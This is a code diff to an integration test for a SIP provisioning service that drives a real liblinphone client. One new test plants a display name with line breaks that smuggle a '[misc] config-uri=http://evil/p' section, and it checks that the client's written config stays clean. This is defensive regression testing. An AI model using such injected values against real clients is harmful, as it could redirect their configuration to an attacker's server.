@@ -1,5 +1,5 @@
 import { execFile, execFileSync } from 'node:child_process';
-import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { promisify } from 'node:util';
@@ -8,16 +8,18 @@ import { Password } from '../../src/accounts/entities/password.entity';
 import { ProvisioningToken } from '../../src/accounts/entities/provisioning-token.entity';
 import { DOMAIN, startApp, TestApp } from '../support/app';
 import { createAccount } from '../support/fixtures';
+import { LpSection, parseLinphonerc } from '../support/lpconfig';
 
 const run = promisify(execFile);
 const HOST = '127.0.0.1';
 const SOURCE = join(__dirname, 'linphone-provision.c');
+/** ACCOUNT_PROXY_REGISTRAR_ADDRESS: a closed port (the test is about provisioning, not registering). */
+const REGISTRAR = '127.0.0.1:9;transport=tcp';
 
-/** Where the client's SIP account points: a closed port, and it does not register (the test is about provisioning). */
+/** The client's account does not register; its server comes from ACCOUNT_PROXY_REGISTRAR_ADDRESS (deviation 33). */
 const SERVER_RC = `[sip]
 default_proxy = 0
 [proxy_0]
-reg_proxy = "<sip:127.0.0.1:9;transport=tcp>"
 reg_sendregister = 0
 `;
 
@@ -26,7 +28,10 @@ interface Applied {
   message?: string;
   identity?: string;
   'contacts-vcard-list'?: string;
+  accounts: { identity: string; server: string }[];
   auth: { username: string; domain: string; realm: string; ha1: string; algorithm: string }[];
+  /** the linphonerc the client wrote back, as its next start would read it */
+  written: LpSection[];
 }
 
 /**
@@ -52,6 +57,7 @@ describe('a real liblinphone applies the provisioning XML', () => {
       APP_DEFAULT_HOST: HOST,
       ACCOUNT_PROVISIONING_USE_X_LINPHONE_PROVISIONING_HEADER: 'false',
       ACCOUNT_PROVISIONING_RC_FILE: join(dir, 'server.rc'),
+      ACCOUNT_PROXY_REGISTRAR_ADDRESS: REGISTRAR,
     });
   }, 120_000);
   afterAll(async () => {
@@ -73,10 +79,11 @@ describe('a real liblinphone applies the provisioning XML', () => {
     const { stdout } = await run(binary, [config, '20'], { env: { HOME: home, PATH: process.env.PATH ?? '' }, timeout: 60_000 }).catch(
       (error: { stdout?: string; code?: number }) => ({ stdout: error.stdout ?? '' }),
     );
-    const applied: Applied = { auth: [] };
+    const applied: Applied = { accounts: [], auth: [], written: parseLinphonerc(readFileSync(config, 'utf8')) };
     for (const line of stdout.split('\n').filter((l) => l.startsWith('{"'))) {
       const value = JSON.parse(line) as Record<string, unknown>;
       if (value.auth) applied.auth.push(value.auth as Applied['auth'][number]);
+      else if (value.account) applied.accounts.push(value.account as Applied['accounts'][number]);
       else Object.assign(applied, value);
     }
     return applied;
@@ -92,10 +99,27 @@ describe('a real liblinphone applies the provisioning XML', () => {
     const applied = await provision(`/provisioning/${token.token}`);
     expect(applied.configuring).toBe('successful');
     expect(applied.identity).toBe(`"Anna O'Reily" <sip:anna@${DOMAIN}>`);
+    // the only proxy the client knows is ACCOUNT_PROXY_REGISTRAR_ADDRESS, given as reg_proxy
+    expect(applied.accounts).toEqual([{ identity: `"Anna O'Reily" <sip:anna@${DOMAIN}>`, server: `sip:${REGISTRAR}` }]);
     const password = await stored(f.account.id);
     expect(applied.auth).toEqual([{ username: 'anna', domain: DOMAIN, realm: DOMAIN, ha1: password.password, algorithm: 'MD5' }]);
     expect((await t.db.getRepository(Account).findOneByOrFail({ id: f.account.id })).activated).toBe(true);
     expect((await t.db.getRepository(ProvisioningToken).findOneByOrFail({ id: token.id })).used).toBe(true);
+  });
+
+  it('a display name carrying line breaks cannot add a section to the config the client writes', async () => {
+    const f = await createAccount(t.db, { username: 'bob', activated: false });
+    // adopted data: the API refuses such a name, the PHP service did not
+    await t.db.getRepository(Account).update({ id: f.account.id }, { display_name: 'Bob\n[misc]\nconfig-uri=http://evil/p' });
+    await t.db.getRepository(ProvisioningToken).save({ account_id: f.account.id, token: 'LinphoneTok04', used: false });
+
+    const applied = await provision('/provisioning/LinphoneTok04');
+    expect(applied.configuring).toBe('successful');
+    // the file the client reads at its next start: its own [misc] only, no config-uri but its own
+    const configUris = applied.written.flatMap((section) => section.entries.filter((entry) => entry.name === 'config-uri').map((entry) => entry.value));
+    expect(configUris).toEqual([`${t.url}/provisioning/LinphoneTok04`]);
+    expect(applied.written.filter((section) => section.name === 'misc')).toHaveLength(1);
+    expect(applied.identity).toBe(`"Bob[misc]config-uri=http://evil/p" <sip:bob@${DOMAIN}>`);
   });
 
   for (const algorithm of ['MD5', 'SHA-256'] as const) {
